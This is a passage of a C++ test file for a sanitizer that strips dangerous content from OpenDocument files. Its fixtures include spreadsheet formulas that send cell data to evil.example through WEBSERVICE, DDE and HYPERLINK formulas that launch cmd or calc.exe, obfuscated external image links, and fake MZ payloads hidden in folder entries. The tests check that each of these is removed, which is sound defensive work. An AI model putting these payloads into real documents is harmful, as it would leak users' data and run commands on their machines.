  for (int i = 0; i < 50000; ++i) {
    std::string name = "Pictures/p" + std::to_string(i) + ".png";
    m.push_back({name, tiny});
    if (i % 2 == 0) {
      for (int k = 0; k < 3; ++k) body += image(climb + name);
      body += image(climb + "../../" + name);
    }
  }
  std::string nested = "Object 1";
  body += frame(R"(<draw:object xlink:href="./Object 1"/>)") + "</text:p>";
  for (int d = 0; d < 100; ++d) {
    std::string inner = nested + "/Object 1";
    m.push_back(
        {nested + "/content.xml", drawingXml(frame(R"(<draw:object xlink:href="Object 1"/>)"))});
    nested = inner;
  }
  m.push_back({"content.xml", contentXml("", "", body)});
  m.push_back({"styles.xml", stylesXml("")});
  OdfSanitizer s(Options{});
  Limits l;
  l.expansion_ratio_limit = 100000;  // the repetitive content.xml is not what is tested here
  Outcome o = runSanitizer(s, odtPackage(m), "many.odt", l);
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.replacement);
  REQUIRE(hasFinding(o, "removed", "content.xml: draw:image (linked ../...) x25000"));
  REQUIRE(hasFinding(o, "removed", "Pictures/p1.png"));
  REQUIRE_FALSE(hasFinding(o, "removed", "Pictures/p2.png"));
  REQUIRE(zipMemberText(o.replacement->data, nested.substr(0, nested.size() - 9) + "/content.xml")
              .size() > 0);
}

TEST_CASE("odf: zero-padded character references still spell an external link, and stay linear",
          "[odf][adversarial]") {
  // LibreOffice reads "&#x0000000068;ttp://..." as "http://..." and fetched the picture.
  std::string body = "<text:p>" + frame(image("&#x0000000068;ttp://evil.example/hex.png")) +
                     frame(image("&#0000000104;ttp://evil.example/dec.png")) +
                     frame(image("&#x000000000000000000005c;\\evil.example\\share\\unc.png")) +
                     "</text:p>";
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(
      s, odtPackage({{"content.xml", contentXml("", "", body)}, {"styles.xml", stylesXml("")}}),
      "pad.odt");
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(hasFinding(o, "removed", "content.xml: draw:image (linked http://...) x2"));
  CHECK(hasFinding(o, "removed", "content.xml: draw:image (linked \\\\...)"));
  CHECK(zipMemberText(o.replacement->data, "content.xml").find("evil") == std::string::npos);

  // 2 MB of '&' in a link (each one used to look for a ';' to the end of the value: 50 s).
  auto t0 = std::chrono::steady_clock::now();
  std::string amp =
      "<text:p><text:a xlink:href=\"" + std::string(2000000, '&') + "\">x</text:a></text:p>";
  zip::Writer w;
  w.addStored("mimetype", "application/vnd.oasis.opendocument.text");
  w.addStored("content.xml", contentXml("", "", amp));
  w.addStored(
      "META-INF/manifest.xml",
      R"(<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>)");
  Outcome big = runSanitizer(s, *w.finish(), "amp.odt");
  auto secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  // Bare '&' is not well-formed XML: expat's check of the parts that stay refuses the package
  // (after the linear scrub this test is about).
  CHECK(big.reason == Reason::ParseMalformed);
  CHECK(secs < 3.0);
}

TEST_CASE("odf: a folder entry carrying bytes is removed", "[odf][adversarial]") {
  // "payload/" and "Pictures/" with data: python's zipfile reads the bytes back; they used to
  // be copied as folder entries.
  Members m = {{"content.xml",
                contentXml("", "", "<text:p>" + frame(image("Pictures/keep.png")) + "</text:p>")},
               {"styles.xml", stylesXml("")},
               {"Pictures/keep.png", png()},
               {"Pictures/", "MZ" + std::string(5000, '\x90')},
               {"payload/", "MZ" + std::string(5000, 'A')},
               {"Empty/", ""}};
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(s, odtPackage(m), "dirdata.odt");
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(hasFinding(o, "removed", "Pictures/"));
  CHECK(hasFinding(o, "removed", "payload/"));
  zip::Failure f;
  auto a = zip::Archive::open(o.replacement->data, {}, &f);
  REQUIRE(a);
  for (const auto& e : a->entries()) CHECK((!e.directory() || e.uncompressed_size == 0));
  CHECK(a->find("Pictures/keep.png"));
}

TEST_CASE("odf: spreadsheet formulas that fetch, link or call out lose the formula, not the value",
          "[odf][adversarial]") {
  // One cell per case: the formula (attribute-escaped) and the value it showed when saved.
  struct Cell {
    std::string formula, cached;
    bool risky;
  };
  const std::vector<Cell> cells = {
      {"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/?d=&quot;&amp;[.B1])", "ws-cached",
       true},
      {"of:=com.microsoft.webservice (&quot;http://evil.example/&quot;)", "ws-lower", true},
      {"of&#58;=WEBSERVICE(&quot;http://evil.example/&quot;)", "ws-entity-prefix", true},
      {"of:=HYPERLINK(&quot;file:///c:/windows/system32/calc.exe&quot;;&quot;open&quot;)",
       "link-cached", true},
      {"of:=DDE(&quot;soffice&quot;;&quot;file:///tmp/x.ods&quot;;&quot;A1&quot;)", "dde-cached",
       true},
      {"of:=['file:///etc/other.ods'#$Sheet1.A1]", "ext-cached", true},
      {"of:=[&apos;https://evil.example/b.ods&apos;#$S.A1]*2", "ext-web", true},
      {"msoxl:=cmd|'/c calc'!A0", "dde-excel", true},
      {"of:=FILTERXML(&quot;&lt;a/&gt;&quot;;&quot;//a&quot;)", "fx-cached", true},
      // No prefix, or one bound elsewhere: LibreOffice reads them as formulas all the same.
      {"=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/np&quot;)", "ws-noprefix", true},
      {"x:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/x&quot;)", "ws-otherprefix", true},
      {"=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)", "dde-noprefix", true},
      {"=['file:///etc/x.ods'#$Sheet1.A1]", "ext-noprefix", true},
      {"=SUM([.B1:.B3])*2", "12", false},
      // Harmless: plain arithmetic, a function name inside a string, quoted sheet names.
      {"of:=SUM([.B1:.B3])", "6", false},
      {"of:=&quot;WEBSERVICE(&quot;&quot;x&quot;&quot;) is only text&quot;", "text", false},
      {"of:=[$'My Sheet'.A1]+[$Sheet1.B2]", "7", false},
  };
  std::string rows;
  for (const auto& c : cells) {
    rows += R"(<table:table-row><table:table-cell table:formula=")" + c.formula +
            R"(" office:value-type="string" office:string-value=")" + c.cached + R"("><text:p>)" +
            c.cached + "</text:p></table:table-cell></table:table-row>";
  }
  Members m;
  m.push_back({"mimetype", "application/vnd.oasis.opendocument.spreadsheet"});
  m.push_back(
      {"content.xml",
       R"(<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"><office:body><office:spreadsheet><table:content-validations><table:content-validation table:name="v1" table:condition="of:cell-content-is-in-list(WEBSERVICE(&quot;http://evil.example/v&quot;)) "/></table:content-validations><table:table table:name="Sheet1">)" +
           rows +
           R"x(</table:table><table:named-expressions><table:named-expression table:name="leak" table:base-cell-address="$Sheet1.$A$1" table:expression="of:=WEBSERVICE(&quot;http://evil.example/n&quot;)"/><table:named-range table:name="fine" table:base-cell-address="$Sheet1.$A$1" table:cell-range-address="$Sheet1.$A$1:.$A$3"/></table:named-expressions></office:spreadsheet></office:body></office:document-content>)x"});
  m.push_back({"styles.xml", R"(<?xml version="1.0" encoding="UTF-8"?>
<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.2"/>)"});
  m.push_back({"META-INF/manifest.xml", R"(<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/></manifest:manifest>)"});
  OdfSanitizer s(Options{});
  Outcome o = runSanitizer(s, pack(m), "calc.ods");
  INFO(test::findingsText(o) << o.detail);
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.replacement);
  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (WEBSERVICE) x5"));
  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (HYPERLINK)"));
  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (DDE) x3"));
  CHECK(hasFinding(o, "removed",
                   "content.xml: table:table-cell table:formula (external reference) x3"));
  CHECK(hasFinding(o, "removed", "content.xml: table:table-cell table:formula (FILTERXML)"));
  CHECK(hasFinding(o, "removed",
                   "content.xml: table:named-expression table:expression (WEBSERVICE)"));
  CHECK(hasFinding(o, "removed",
                   "content.xml: table:content-validation table:condition (WEBSERVICE)"));
  std::string content = zipMemberText(o.replacement->data, "content.xml");
  for (const auto& c : cells) {
    INFO(c.formula);
    CHECK((content.find("table:formula=\"" + c.formula + "\"") == std::string::npos) == c.risky);
    CHECK(content.find(">" + c.cached + "</text:p>") != std::string::npos);  // the value stays
  }
  CHECK(content.find("evil.example") == std::string::npos);
  CHECK(content.find("calc") == std::string::npos);
  CHECK(content.find("table:name=\"fine\"") != std::string::npos);
  REQUIRE(runSanitizer(s, o.replacement->data, "calc.ods").verdict == Verdict::Pass);

  // Linear: a long chain of namespace prefixes and many quoted names.
  std::string chain = "of:=";
  for (int i = 0; i < 100000; ++i) chain += "COM.MICROSOFT.";
  chain += "WEBSERVICE(1)";
  for (int i = 0; i < 100000; ++i) chain += "+[$'S'.A1]";
  Members big = m;
  big[1].second =
      R"(<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table><table:table-row><table:table-cell table:formula=")" +
      chain +
      R"("/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>)";
  Limits roomy;  // the repetition compresses well: the expansion limit is not what is tested here
  roomy.expansion_ratio_limit = 100000;
  Outcome ob = runSanitizer(s, pack(big), "big.ods", roomy);
  INFO(test::findingsText(ob) << reasonInfo(ob.reason).name << " " << ob.detail);
  CHECK(hasFinding(ob, "removed", "content.xml: table:table-cell table:formula (WEBSERVICE)"));

  if (test::toolMissing("soffice")) return;
  test::TempDir tmp;
  auto path = tmp.path() / "calc.ods";
  test::writeFile(path, o.replacement->data);
  requireUnzipOk(path);
  std::string text = sofficeText(path, tmp.path());
  if (!text.empty()) {
    CHECK(text.find("ws-cached") != std::string::npos);
    CHECK(text.find("ext-cached") != std::string::npos);
  }
}
